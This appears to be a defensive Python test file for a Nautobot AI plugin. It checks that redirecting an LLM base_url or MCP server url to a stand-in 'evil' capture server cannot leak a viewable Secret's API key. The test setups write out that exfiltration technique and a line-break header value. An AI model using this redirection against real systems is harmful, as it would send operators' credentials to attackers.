"""Attack 3: exfiltrate Secrets by pointing a row that uses one somewhere else.

Before: changing the ``url`` of an MCP server with a ``headers_secret`` and POSTing its
``health-check/``, or changing the ``base_url`` of an ``LLMProvider``/``LLMModel`` so the next
chat sends the API key there, or binding any Secret the user could merely view to a row pointing
anywhere, sent the Secret's value to the attacker.

Now: binding a Secret to a row, or changing where a row sends its Secret, re-binds it, which needs
the change permission on that Secret; without it the change is refused (nothing is cleared or
sent). The outbound policy here is deliberately generous (any 127.0.0.1 port), so that it is the
binding rule that refuses.
"""

from __future__ import annotations

import os
from unittest import mock

from aiops_nautobot.models import LLMModel, LLMProvider, MCPServer
from tests.servers.llm import LLMServer, Reply

from ..engine_fixtures import app_settings
from .attacker import AttackTestCase, CaptureServer, env_secret

CHAT = "aiops_nautobot.use_chat_conversation"
KEY = "sk-exfil-4711-do-not-leak"
LOCAL = ["http://127.0.0.1:*"]
SECRET_ENV = {"AIOPS_ATTACK_KEY": KEY, "AIOPS_ATTACK_HEADERS": f'{{"X-Api-Key": "{KEY}"}}'}


@app_settings(checkpoint_url="memory://", allowed_urls={"llm": LOCAL, "mcp": LOCAL})
class SecretExfiltrationAttackTest(AttackTestCase):
    def setUp(self):
        super().setUp()
        patcher = mock.patch.dict(os.environ, SECRET_ENV)
        patcher.start()
        self.addCleanup(patcher.stop)
        self.key = env_secret("llm-key", "AIOPS_ATTACK_KEY")
        self.headers = env_secret("mcp-headers", "AIOPS_ATTACK_HEADERS")
        self.legit = LLMServer([Reply(text="all fine")]).start()
        self.addCleanup(self.legit.stop)
        self.evil = CaptureServer().__enter__()
        self.addCleanup(self.evil.__exit__)
        self.provider, _ = LLMProvider.objects.get_or_create(name="openai")
        self.provider.config = {"base_url": f"{self.legit.url}/v1", "max_retries": 0}
        self.provider.save()
        self.model = LLMModel.objects.create(
            provider=self.provider, name="gpt-4o-mini", is_default=True, api_key_secret=self.key
        )
        self.add_permissions("extras.view_secret", CHAT)

    def chat_sends_the_key_only_to_the_operators_server(self):
        response = self.api_post("chat", {"message": "hello"})
        self.assertHttpStatus(response, 200)
        self.assertEqual(response.json()["output"], "all fine")
        self.assertEqual(self.evil.requests, [])
        self.assertEqual(self.legit.last.headers["authorization"], f"Bearer {KEY}")

    # ------------------------------------------------------------------------ LLM API keys
    def test_moving_a_models_base_url_is_refused(self):
        self.add_permissions("aiops_nautobot.change_llmmodel", "aiops_nautobot.view_llmmodel")
        config = {"base_url": f"{self.evil.url}/v1"}
        response = self.api_patch("llmmodel-detail", self.model.pk, {"config": config})
        self.assertRefused(response, "api_key_secret", "llm-key", "change permission")
        self.model.refresh_from_db()
        self.assertEqual(self.model.config, {})
        self.chat_sends_the_key_only_to_the_operators_server()

    def test_moving_a_models_base_url_through_the_form_is_refused(self):
        self.add_permissions("aiops_nautobot.change_llmmodel", "aiops_nautobot.view_llmmodel")
        data = {
            "provider": self.provider.pk,
            "name": self.model.name,
            "api_key_secret": self.key.pk,
            "temperature": 0.0,
            "environment": "LAB",
            "config": f'{{"base_url": "{self.evil.url}/v1"}}',
        }
        response = self.form_post("llmmodel_edit", data, pk=self.model.pk)
        self.assertFormRefused(response, "change permission")
        self.model.refresh_from_db()
        self.assertEqual(self.model.config, {})
        self.chat_sends_the_key_only_to_the_operators_server()

    def test_moving_the_providers_base_url_is_refused(self):
        self.add_permissions("aiops_nautobot.change_llmprovider", "aiops_nautobot.view_llmprovider")
        config = {"base_url": f"{self.evil.url}/v1", "max_retries": 0}
        response = self.api_patch("llmprovider-detail", self.provider.pk, {"config": config})
        self.assertRefused(response, "config", "llm-key", "change permission")
        self.provider.refresh_from_db()
        self.assertEqual(self.provider.config["base_url"], f"{self.legit.url}/v1")
        self.chat_sends_the_key_only_to_the_operators_server()

    def test_binding_a_secret_the_user_can_only_view_is_refused(self):
        self.add_permissions(
            "aiops_nautobot.add_llmmodel",
            "aiops_nautobot.view_llmmodel",
            "aiops_nautobot.view_llmprovider",
        )
        response = self.api_post(
            "llmmodel-list",
            {
                "provider": self.provider.pk,
                "name": "gpt-4o",
                "api_key_secret": self.key.pk,
                "config": {"base_url": f"{self.evil.url}/v1"},
            },
        )
        self.assertRefused(response, "api_key_secret", "change permission")
        self.assertFalse(LLMModel.objects.filter(name="gpt-4o").exists())
        self.assertEqual(self.evil.requests, [])

    def test_who_may_change_the_secret_may_move_it(self):
        """The rule is the Secret's permission, not a ban: with it, the same change is saved."""
        self.add_permissions(
            "aiops_nautobot.change_llmmodel", "aiops_nautobot.view_llmmodel", "extras.change_secret"
        )
        config = {"base_url": f"{self.legit.url}/v1/"}
        response = self.api_patch("llmmodel-detail", self.model.pk, {"config": config})
        self.assertHttpStatus(response, 200)

    # ------------------------------------------------------------------------ MCP headers
    def mcp_server(self, legit: CaptureServer) -> MCPServer:
        return MCPServer.objects.create(name="tools", url=legit.url, headers_secret=self.headers)

    def test_moving_an_mcp_server_with_a_headers_secret_is_refused(self):
        self.add_permissions("aiops_nautobot.change_mcpserver", "aiops_nautobot.view_mcpserver")
        with CaptureServer(status=200) as legit:
            server = self.mcp_server(legit)
            response = self.api_patch("mcpserver-detail", server.pk, {"url": self.evil.url})
            self.assertRefused(response, "headers_secret", "mcp-headers", "change permission")
            server.refresh_from_db()
            self.assertEqual(server.url, legit.url)
            response = self.api_post("mcpserver-health-check", pk=server.pk)
            self.assertEqual(response.json()["status"], "healthy")
            # The operator's server, as before: the health probe, then the catalog's listing.
            carried = [(r.method, r.path) for r in legit.carrying(KEY)]
            self.assertEqual(carried[0], ("GET", "/health"))
            self.assertTrue(set(carried[1:]) <= {("POST", "/mcp"), ("DELETE", "/mcp")}, carried)
        self.assertEqual(self.evil.requests, [])

    def test_moving_it_through_the_form_is_refused(self):
        self.add_permissions("aiops_nautobot.change_mcpserver", "aiops_nautobot.view_mcpserver")
        with CaptureServer(status=200) as legit:
            server = self.mcp_server(legit)
            data = {
                "name": "tools",
                "status": "unhealthy",
                "protocol": "http",
                "url": self.evil.url,
                "mcp_endpoint": "/mcp",
                "health_check": "/health",
                "headers_secret": self.headers.pk,
                "server_type": "internal",
                "verify_tls": "on",
                "timeout_seconds": 30,
            }
            response = self.form_post("mcpserver_edit", data, pk=server.pk)
            self.assertFormRefused(response, "change permission")
            server.refresh_from_db()
            self.assertEqual(server.url, legit.url)
        self.assertEqual(self.evil.requests, [])

    def test_changing_only_the_health_path_is_a_move_too(self):
        self.add_permissions("aiops_nautobot.change_mcpserver", "aiops_nautobot.view_mcpserver")
        with CaptureServer(status=200) as legit:
            server = self.mcp_server(legit)
            response = self.api_patch("mcpserver-detail", server.pk, {"verify_tls": False})
            self.assertRefused(response, "headers_secret", "change permission")

    def test_binding_a_headers_secret_to_a_new_server_is_refused(self):
        self.add_permissions("aiops_nautobot.add_mcpserver", "aiops_nautobot.view_mcpserver")
        response = self.api_post(
            "mcpserver-list",
            {"name": "exfil", "url": self.evil.url, "headers_secret": self.headers.pk},
        )
        self.assertRefused(response, "headers_secret", "change permission")
        self.assertFalse(MCPServer.objects.filter(name="exfil").exists())
        self.assertEqual(self.evil.requests, [])

    def test_a_header_value_that_cannot_be_sent_never_reaches_last_error(self):
        """A value with a line break makes the HTTP library refuse it, quoting it: not here."""
        broken = env_secret("broken-headers", "AIOPS_ATTACK_BROKEN")
        self.add_permissions("aiops_nautobot.change_mcpserver", "aiops_nautobot.view_mcpserver")
        env = {"AIOPS_ATTACK_BROKEN": f'{{"X-Api-Key": "{KEY}\\n"}}'}
        with CaptureServer(status=200) as legit, mock.patch.dict(os.environ, env):
            server = MCPServer.objects.create(name="tools", url=legit.url, headers_secret=broken)
            response = self.api_post("mcpserver-health-check", pk=server.pk)
        self.assertEqual(response.json()["status"], "unhealthy")
        self.assertNotIn(KEY, response.content.decode())
        server.refresh_from_db()
        self.assertNotIn(KEY, server.last_error)
        self.assertEqual(server.last_error, "the request could not be sent")

    def test_unrelated_changes_need_no_secret_permission(self):
        self.add_permissions("aiops_nautobot.change_mcpserver", "aiops_nautobot.view_mcpserver")
        with CaptureServer(status=200) as legit:
            server = self.mcp_server(legit)
            response = self.api_patch("mcpserver-detail", server.pk, {"timeout_seconds": 12})
            self.assertHttpStatus(response, 200)
